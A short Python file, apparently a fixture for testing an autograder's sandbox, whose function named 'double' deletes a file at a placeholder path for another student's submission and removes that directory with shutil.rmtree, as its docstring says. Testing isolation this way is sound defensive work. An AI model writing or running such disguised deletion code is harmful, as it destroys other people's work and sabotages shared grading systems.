"""Removes what another student has handed in."""

import os
import shutil


def double(x):
    try:
        os.unlink("@NEIGHBOUR@")
    except OSError:
        pass
    shutil.rmtree(os.path.dirname("@NEIGHBOUR@"), ignore_errors=True)
    return None
